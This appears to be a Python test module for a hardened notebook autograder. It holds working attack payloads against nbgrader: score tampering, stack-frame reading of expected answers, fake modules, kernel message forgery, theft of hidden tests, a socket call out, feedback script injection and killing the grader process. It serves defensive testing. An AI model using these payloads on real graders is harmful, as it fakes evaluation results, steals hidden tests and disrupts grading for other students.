"""A control for each class of attack, which pays or does harm under plain nbgrader.

Both engines receive the same notebook.  {loot} is a folder, {port} the port of a server and {mark}
a number, all made by the test, which detects with them stolen data, calls and processes left over.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from attacks import Attack

VICTIM = "honest, graded last"


@dataclass
class After:
    """The state after a class has been graded.

    Attributes:
        scores: The score of each student; None for those who were not graded.
        written: The number of bytes that the grader wrote for each student.
        pages: The feedback of those who received some.
        loot: The stolen data.
        calls: The messages that a server outside the sandbox received.
        left: The processes that still ran.
    """

    scores: dict[str, float | None]
    written: dict[str, int]
    pages: dict[str, str]
    loot: set[str]
    calls: bytes
    left: list[int]


def pays(after: After, kind: str) -> bool:
    """Whether the attack earned points without an answer."""
    return bool(after.scores[kind])


def takes(after: After, kind: str) -> bool:
    """Whether the attack obtained forbidden data and wrote it to a forbidden place."""
    return kind in after.loot


def calls(after: After, kind: str) -> bool:
    """Whether the attack sent something out of the sandbox."""
    return kind.encode() in after.calls


def kills(after: After, kind: str) -> bool:
    """Whether the attack left a process behind and prevented the grading of the next student."""
    return bool(after.left) and after.scores[VICTIM] is None


def fills(after: After, kind: str) -> bool:
    """Whether the attack made the grader write much data of the attack's choice."""
    return after.written[kind] > 10**7


def speaks(after: After, kind: str) -> bool:
    """Whether a script of the attack runs in the browser of a person who reads the feedback."""
    return "<script>alert('GOT')" in after.pages[kind]


@dataclass(frozen=True)
class Control:
    """One attack and its effect under nbgrader.

    Attributes:
        does: The function that detects the effect.
        attack: The attack, whose cell is at the top of the notebook.
        plain: Whether its target is the plain test in `PLAIN`, because labkit's check resists the
            attack even in one process.
    """

    does: Callable[[After, str], bool]
    attack: Attack
    plain: bool = False


def cell(does: Callable[[After, str], bool], source: str) -> Control:
    return Control(does, Attack(cell=source))


def answer(does: Callable[[After, str], bool], source: str, **options: bool) -> Control:
    return Control(does, Attack(answer=source), **options)


PLAIN = """import numpy as np

off = np.abs(np.subtract(bang_bang(0.5, 2.0), (0.125, 0.5, 1.0))).max()
float(np.clip(3.0 - off, 0.0, 3.0))"""
"""A typical test with partial credit: three points minus the error of the answer."""

CONTROLS: dict[str, Control] = {
    "patched comparison": cell(
        pays, "import labkit.course\ncheck = labkit.course.check = lambda name, function: 1.0"
    ),
    "display and execution hooks": cell(
        pays,
        "def drop(lines):\n    return ['1.0\\n'] if 'check(' in ''.join(lines) else lines\n"
        "get_ipython().input_transformers_cleanup.append(drop)",
    ),
    "objects that compare equal": answer(
        pays,
        "import numpy as np\nclass All:\n    def __array_ufunc__(self, *args, **options):\n"
        "        return np.zeros(3)\ndef NAME(t, duration):\n    return All()",
        plain=True,
    ),
    "odd answers": answer(
        pays, "def NAME(t, duration):\n    return float('nan'), 0.0, 0.0", plain=True
    ),
    "frame walking": answer(
        pays,
        "import sys\ndef NAME(t, duration):\n    frame = sys._getframe()\n"
        "    while 'case' not in frame.f_locals: frame = frame.f_back\n"
        "    return frame.f_locals['case'].expected",
    ),
    "fake modules": cell(
        pays,
        "import os, sys\nos.makedirs('labkit')\nsys.path.insert(0, '')\n"
        "open('labkit/__init__.py', 'w').write('')\n"
        "open('labkit/course.py', 'w').write('check = lambda name, function: 1.0\\n'\n"
        "    'from unittest.mock import MagicMock\\nread_question = student = MagicMock()\\n')",
    ),
    "files": cell(
        takes,
        "text = open('01_paths.ipynb').read()\n"
        "if 'BEGIN HIDDEN' in text: open('{loot}/files', 'w').write(text)",
    ),
    "network": cell(
        calls,
        "import socket\n"
        "with socket.create_connection(('127.0.0.1', {port}), 2) as line: line.sendall(b'network')",
    ),
    "endless": cell(fills, "print('x' * 20_000_000)"),
    "kernel": cell(  # a system call that gives the grader ten more minutes of processor time
        takes,
        "import os, resource\nresource.prlimit(os.getppid(), resource.RLIMIT_CPU, (600, 600))\n"
        "open('{loot}/kernel', 'w').write('it is done')",
    ),
    "protocol forgery": answer(
        pays,
        "def NAME(t, duration):\n    kernel = get_ipython().kernel\n"
        "    verdict = {'data': {'text/plain': '2.0'}, 'metadata': {}, 'execution_count': 1}\n"
        "    asked = kernel.get_parent()\n"
        "    kernel.session.send(kernel.iopub_socket, 'execute_result', verdict, asked)\n"
        "    return 0.0, 0.0, 0.0",
    ),
    "feedback injection": cell(
        speaks,
        "from IPython.display import HTML, display\n"
        "display(HTML(\"<script>alert('GOT')</script>\"))",
    ),
    "signals and processes": cell(  # the last one, because nobody after it is graded
        kills,
        "import os, signal\nos.system('setsid sleep 30 {mark} &')\n"
        "os.kill(os.getppid(), signal.SIGKILL)",
    ),
}
